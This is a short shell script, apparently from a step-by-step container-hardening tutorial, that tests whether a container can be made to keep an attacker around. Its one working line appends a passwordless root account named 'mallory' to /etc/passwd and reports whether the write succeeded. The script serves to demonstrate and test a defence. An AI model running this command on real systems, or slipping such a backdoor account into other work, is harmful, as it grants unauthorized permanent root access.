#!/bin/sh
# Step 9's attack: stay for good, by writing where root may write. Exits with 0 when that worked.
#
#   steps/09-security-modules/attack.sh ./jbang step08     in step 8
#   steps/09-security-modules/attack.sh ./jbang step09     in step 9
#
# A second root without a password, for whoever comes back. It is in the container's own layer, which goes with it: no file
# of your machine is written.
found=$("$@" sh -c 'echo "mallory::0:0::/:/bin/sh" >>/etc/passwd; grep mallory /etc/passwd')
echo "inside: ${found:-nothing} in /etc/passwd"
[ -n "$found" ]
